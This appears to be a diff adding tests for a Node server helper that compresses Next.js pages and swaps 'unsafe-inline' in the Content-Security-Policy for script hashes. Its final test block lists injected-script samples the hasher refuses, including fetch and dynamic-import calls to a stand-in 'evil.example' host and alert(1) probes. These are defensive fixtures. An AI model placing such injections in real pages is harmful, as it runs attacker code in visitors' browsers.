@@ -1,6 +1,8 @@
 import { createServer, type RequestListener, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { finishPages } from './finish-pages.mjs';
 import { microCache } from './micro-cache.mjs';
+import { scriptHashes } from './script-hashes.mjs';
 import { wholeNotFound } from './whole-not-found.mjs';
 
 let server: Server | null = null;
@@ -99,5 +101,71 @@ describe('a page that is missing', () => {
     const data = await fetch(`${origin}/data`);
     expect(data.status).toBe(404);
     expect(await data.text()).toBe('empty');
+  });
+});
+
+describe('a finished page', () => {
+  const policy = "default-src 'self'; script-src 'self' 'unsafe-inline'; object-src 'none'";
+  const next = '<script>self.__next_f.push([1,"data </p>"])</script>';
+  const serveHtml = (html: string, type = 'text/html; charset=utf-8') =>
+    serve(() => (request, response) => {
+      finishPages(request, response);
+      response.setHeader('content-security-policy', policy);
+      if (request.headers['if-none-match']) {
+        response.statusCode = 304;
+        response.end();
+        return;
+      }
+      response.writeHead(200, { 'content-type': type });
+      response.flushHeaders();
+      response.write(html.slice(0, 20));
+      response.end(html.slice(20));
+    });
+
+  it.each(['br', 'gzip', 'identity'])('arrives whole by %s, its scripts allowed by hash alone', async (encoding) => {
+    const html = `<p>Zoë</p>${next}<script src="/_next/a.js"></script>`;
+    const response = await fetch(await serveHtml(html), { headers: { 'accept-encoding': encoding } });
+    expect(await response.text()).toBe(html);
+    expect(response.headers.get('content-encoding') ?? 'identity').toBe(encoding);
+    expect(response.headers.get('vary')).toBe('accept-encoding');
+    expect(response.headers.get('content-security-policy')).toMatch(
+      /^default-src 'self'; script-src 'self' 'sha256-[\w+/]{43}='; object-src 'none'$/,
+    );
+  });
+
+  it('is 410 when its job is over', async () => {
+    const response = await fetch(await serveHtml('<meta name="http-status" content="410"/>'));
+    expect(response.status).toBe(410);
+  });
+
+  it('keeps the browser from taking a policy without hashes for a page it has', async () => {
+    const response = await fetch(await serveHtml('x'), { headers: { 'if-none-match': '"one"' } });
+    expect(response.status).toBe(304);
+    expect(response.headers.has('content-security-policy')).toBe(false);
+  });
+
+  it('leaves pictures as they are, and packs other text', async () => {
+    expect((await fetch(await serveHtml('x'.repeat(99), 'image/png'))).headers.has('content-encoding')).toBe(false);
+    await new Promise((resolve) => server?.close(resolve));
+    expect((await fetch(await serveHtml('x'.repeat(99), 'application/rss+xml'))).headers.get('vary')).toBe(
+      'accept-encoding',
+    );
+  });
+});
+
+describe('the scripts of a page', () => {
+  it.each([
+    'self.__next_f.push([1,"a"]);alert(1)',
+    'self.__next_f.push([1,alert(1)])',
+    '(self.__next_f=self.__next_f||[]).push([0]);fetch("//evil.example")',
+    'alert(1)',
+    'import("//evil.example/x.js")',
+  ])("that are not Next's get no hash: %s", (script) => {
+    expect(scriptHashes(`<script>${script}</script>`)).toEqual({ hashes: [], refused: [script] });
+  });
+
+  it('that hold data for machines are none', () => {
+    const html = '<script type="application/ld+json">{"a":1}</script><script src="/x.js" async=""></script>';
+    expect(scriptHashes(html)).toEqual({ hashes: [], refused: [] });
   });
 });
